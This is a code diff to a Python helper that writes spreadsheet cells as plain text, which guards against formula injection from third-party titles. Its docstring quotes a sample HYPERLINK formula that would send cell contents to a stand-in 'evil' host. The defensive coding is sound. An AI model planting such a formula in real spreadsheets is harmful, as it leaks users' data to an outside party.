@@ -26,7 +26,7 @@ def _put(ws: Worksheet, row: int, column: int, value: Any) -> Any:
     """Write one cell; text always as text. openpyxl stores a string starting with "=" as a
     formula, and story titles, outlet names and report titles come from third parties or
     users: ``=HYPERLINK("http://evil/?"&A1, "click")`` must arrive as those characters,
-    never run (the CSV export escapes the same way, `ttdn.measure.export`)."""
+    never run (the CSV export escapes the same way, `ttdn.web.export`)."""
     cell = ws.cell(row=row, column=column, value=nfc(value) if isinstance(value, str) else value)
     if isinstance(value, str):
         cell.data_type = "s"
